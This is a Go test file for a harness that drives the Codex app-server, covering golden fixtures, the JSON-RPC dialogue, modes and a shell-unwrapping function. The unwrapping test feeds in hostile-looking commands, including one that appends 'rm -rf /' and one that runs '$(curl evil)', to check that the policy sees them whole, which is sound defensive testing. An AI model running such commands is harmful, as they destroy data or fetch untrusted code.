package harness

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// codexGolden is what testdata/codex-appserver/<fixture>.golden.json
// holds: the events of the fixture's lines, and the replies Fetch writes
// to each request.
type codexGolden struct {
	Events  []Event      `json:"events"`
	Replies []codexReply `json:"replies"`
}

type codexReply struct {
	ID          string `json:"id"`
	Allow       string `json:"allow,omitempty"`
	AllowErr    string `json:"allow_error,omitempty"`
	Answer      string `json:"answer,omitempty"`
	Deny        string `json:"deny"`
	DenyAndStop string `json:"deny_and_stop,omitempty"`
}

// TestCodexAppServerFixtures parses the app-server lines of
// testdata/codex-appserver (their shapes and sources: its README) and
// writes the replies to their requests; refresh with -update.
func TestCodexAppServerFixtures(t *testing.T) {
	for _, fixture := range []string{"work", "interrupted", "failed", "resume-missing"} {
		t.Run(fixture, func(t *testing.T) {
			f, err := os.Open(filepath.Join("testdata", "codex-appserver", fixture+".jsonl"))
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			a := CodexAdapter{}
			task := Task{ID: "t1", Goal: "g", Workspace: "/work/app", Model: "gpt-5.5-codex"}
			if fixture == "resume-missing" {
				task.ResumeID, task.Answer = "019a0000-dead-7000-8000-000000000000", "yes"
			}
			g := codexGolden{Events: []Event{}, Replies: []codexReply{}}
			p := a.NewParser(task)
			emit := func(ev Event) { g.Events = append(g.Events, ev) }
			sc := bufio.NewScanner(f)
			for sc.Scan() {
				p.Parse(sc.Bytes(), emit)
			}
			p.Flush(emit)
			for _, ev := range g.Events {
				r := ev.Request
				if r == nil || r.ID == "" || ev.Kind == KindRequestCancelled {
					continue
				}
				if !r.NoReason {
					t.Errorf("request %s does not say that a denial carries no reason", r.ID)
				}
				rep := codexReply{ID: r.ID}
				switch ev.Kind {
				case KindPermission:
					if r.Action == "" {
						t.Errorf("request %s has no action", r.ID)
					}
					rep.Allow = string(must(a.Allow(*r)))
				case KindAsk:
					var answers []string
					for _, q := range r.Questions {
						answers = append(answers, q.Options[0].Label)
					}
					rep.Answer = string(must(a.Answer(*r, answers)))
				default:
					if _, err := a.Allow(*r); err == nil {
						t.Errorf("a bad request %s can be allowed", r.ID)
					} else {
						rep.AllowErr = err.Error()
					}
				}
				// Deny never fails for a request with an id.
				rep.Deny = string(must(a.Deny(*r, "because")))
				if b, err := a.DenyAndStop(*r, "no"); err == nil {
					rep.DenyAndStop = string(b)
				}
				g.Replies = append(g.Replies, rep)
			}
			got, _ := json.MarshalIndent(g, "", "  ")
			got = append(got, '\n')
			path := filepath.Join("testdata", "codex-appserver", fixture+".golden.json")
			if *update {
				if err := os.WriteFile(path, got, 0o644); err != nil {
					t.Fatal(err)
				}
				return
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("%v (run go test ./harness -run TestCodexAppServerFixtures -update)", err)
			}
			if d := cmp.Diff(string(want), string(got)); d != "" {
				t.Errorf("%s differs (-golden +got):\n%s", path, d)
			}
		})
	}
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return b
}

// TestCodexDialogue: the opening is initialize; initialize's response
// brings initialized and thread/start with the thread's settings, and
// thread/start's the prompt with its thread id, byte for byte; interrupt
// and a further message name the running turn.
func TestCodexDialogue(t *testing.T) {
	task := Task{ID: "t1", Goal: "tidy <up>", Workspace: "/work/app", Workdir: "/work/app/.fetch/t1", Model: "gpt-5.5-codex"}
	a := CodexAdapter{}
	opening, err := a.Opening(task, ModeWork)
	if err != nil {
		t.Fatal(err)
	}
	want := `{"id":1,"method":"initialize","params":{"clientInfo":{"name":"fetch","title":"Fetch","version":"1"}}}` + "\n"
	if len(opening) != 1 || string(opening[0]) != want {
		t.Errorf("opening %q, want %q", opening, want)
	}
	d, err := a.NewDialogue(task, ModeWork)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := d.Interrupt(); !errors.Is(err, ErrCannotReply) {
		t.Errorf("interrupt before the turn: %v", err)
	}
	if _, err := d.UserMessage("hi"); !errors.Is(err, ErrCannotReply) {
		t.Errorf("message before the thread: %v", err)
	}
	for _, line := range []string{`{"method":"item/commandExecution/requestApproval","id":0,"params":{}}`, `not json`,
		`{"id":2,"error":{"code":-32600,"message":"Not initialized"}}`, `{"type":"turn.completed"}`, `{"jsonrpc":"2.0","id":1,"result":{}}`} {
		if got := d.React([]byte(line)); len(got) != 0 {
			t.Errorf("React(%s) = %q, want nothing", line, got)
		}
	}
	got := d.React([]byte(`{"id":1,"result":{"userAgent":"x","codexHome":"/h","platformFamily":"unix","platformOs":"linux"}}`))
	wantInit := `{"method":"initialized"}` + "\n"
	wantStart := `{"id":2,"method":"thread/start","params":{"model":"gpt-5.5-codex","cwd":"/work/app/.fetch/t1","approvalPolicy":"untrusted","sandbox":"danger-full-access","config":{"features.default_mode_request_user_input":true}}}` + "\n"
	if len(got) != 2 || string(got[0]) != wantInit || string(got[1]) != wantStart {
		t.Errorf("after initialize: %q, want %q, %q", got, wantInit, wantStart)
	}
	got = d.React([]byte(`{"id":2,"result":{"thread":{"id":"thr-1","preview":""},"model":"gpt-5.5-codex"}}`))
	var prompt bytes.Buffer
	enc := json.NewEncoder(&prompt)
	enc.SetEscapeHTML(false)
	_ = enc.Encode("tidy <up>\n\n" + codexTwoWayInstructions)
	want = `{"id":3,"method":"turn/start","params":{"input":[{"type":"text","text":` + string(bytes.TrimSpace(prompt.Bytes())) + `}],"threadId":"thr-1"}}` + "\n"
	if len(got) != 1 || string(got[0]) != want {
		t.Errorf("after thread/start: %q, want %q", got, want)
	}
	if _, err := d.Interrupt(); !errors.Is(err, ErrCannotReply) {
		t.Errorf("interrupt before the turn started: %v", err)
	}
	d.React([]byte(`{"id":3,"result":{"turn":{"id":"turn-1","items":[],"status":"inProgress","error":null}}}`))
	c, err := d.Interrupt()
	if want := `{"id":4,"method":"turn/interrupt","params":{"threadId":"thr-1","turnId":"turn-1"}}` + "\n"; err != nil || string(c) != want {
		t.Errorf("interrupt %q, %v; want %q", c, err, want)
	}
	m, err := d.UserMessage("also the README")
	if want := `{"id":5,"method":"turn/steer","params":{"expectedTurnId":"turn-1","input":[{"type":"text","text":"also the README"}],"threadId":"thr-1"}}` + "\n"; err != nil || string(m) != want {
		t.Errorf("message in the turn %q, %v; want %q", m, err, want)
	}
	d.React([]byte(`{"method":"turn/completed","params":{"threadId":"thr-1","turn":{"id":"turn-1","items":[],"status":"completed","error":null}}}`))
	m, err = d.UserMessage("next")
	if want := `{"id":6,"method":"turn/start","params":{"input":[{"type":"text","text":"next"}],"threadId":"thr-1"}}` + "\n"; err != nil || string(m) != want {
		t.Errorf("message between turns %q, %v; want %q", m, err, want)
	}
	d.React([]byte(`{"method":"turn/started","params":{"threadId":"thr-1","turn":{"id":"turn-2","items":[],"status":"inProgress","error":null}}}`))
	if c, err := d.Interrupt(); err != nil || !bytes.Contains(c, []byte(`"turnId":"turn-2"`)) {
		t.Errorf("interrupt of the second turn %q, %v", c, err)
	}

	// Resuming resumes the thread instead and prompts the answer.
	task.ResumeID, task.Answer, task.Model = "thr-0", "yes", ""
	d, _ = a.NewDialogue(task, ModeWork)
	got = d.React([]byte(`{"id":1,"result":{}}`))
	want = `{"id":2,"method":"thread/resume","params":{"threadId":"thr-0","cwd":"/work/app/.fetch/t1","approvalPolicy":"untrusted","sandbox":"danger-full-access","config":{"features.default_mode_request_user_input":true}}}` + "\n"
	if len(got) != 2 || string(got[1]) != want {
		t.Errorf("resume: %q, want %q", got, want)
	}
	got = d.React([]byte(`{"id":2,"result":{"thread":{"id":"thr-0"}}}`))
	want = `{"id":3,"method":"turn/start","params":{"input":[{"type":"text","text":"yes"}],"threadId":"thr-0"}}` + "\n"
	if len(got) != 1 || string(got[0]) != want {
		t.Errorf("after thread/resume: %q, want %q", got, want)
	}
}

// TestCodexTwoWayModes: no plan mode and no read-only mode; a work run is
// `codex app-server` with the one-shot run's keys only.
func TestCodexTwoWayModes(t *testing.T) {
	a := CodexAdapter{}
	task := Task{ID: "t1", Goal: "g", Workspace: "/work/app"}
	if _, err := a.TwoWayInvocation(task, ModePlan, nil); !errors.Is(err, ErrNoPlanMode) {
		t.Errorf("plan invocation: %v", err)
	}
	if _, err := a.NewDialogue(task, ModePlan); !errors.Is(err, ErrNoPlanMode) {
		t.Errorf("plan dialogue: %v", err)
	}
	ro := task
	ro.ReadOnly = true
	if _, err := a.Opening(ro, ModeWork); !errors.Is(err, ErrNoReadOnly) {
		t.Errorf("read-only opening: %v", err)
	}
	inv, err := a.TwoWayInvocation(task, ModeWork, Credentials{"OPENAI_API_KEY": "k", "ANTHROPIC_API_KEY": "a"})
	if err != nil || !cmp.Equal(inv.Argv, []string{"codex", "app-server"}) {
		t.Errorf("work invocation %q, %v", inv.Argv, err)
	}
	for _, kv := range inv.Env {
		if bytes.HasPrefix([]byte(kv), []byte("ANTHROPIC_")) {
			t.Errorf("env has %s", kv)
		}
	}
	if _, err := a.Interrupt("x"); !errors.Is(err, ErrCannotReply) {
		t.Errorf("adapter interrupt: %v", err)
	}
}

// TestCodexUnwrapShell: the owner and the policy see the script of a
// `bash -lc` command, and any other command line whole.
func TestCodexUnwrapShell(t *testing.T) {
	for in, want := range map[string]string{
		`/bin/bash -lc 'git push --force'`:        "git push --force",
		`bash -lc 'echo '"'"'hi'"'"' > a.txt'`:    `echo 'hi' > a.txt`,
		`/bin/zsh -lc "npm test -- \"a b\""`:      `npm test -- "a b"`,
		`/bin/sh -c ls`:                           "ls",
		`/bin/bash -lc 'make' && rm -rf /`:        `/bin/bash -lc 'make' && rm -rf /`,
		`/bin/bash -lc 'a' 'b'`:                   `/bin/bash -lc 'a' 'b'`,
		`/bin/bash -lc 'unclosed`:                 `/bin/bash -lc 'unclosed`,
		`python3 -c 'print(1)'`:                   `python3 -c 'print(1)'`,
		`/bin/bash -x 'ls'`:                       `/bin/bash -x 'ls'`,
		`/bin/bash -lc $(curl evil)`:              `/bin/bash -lc $(curl evil)`,
		`git status`:                              "git status",
		`/usr/local/bin/bash -lc 'go test ./...'`: "go test ./...",
	} {
		if got := codexUnwrapShell(in); got != want {
			t.Errorf("codexUnwrapShell(%s) = %q, want %q", in, got, want)
		}
	}
}
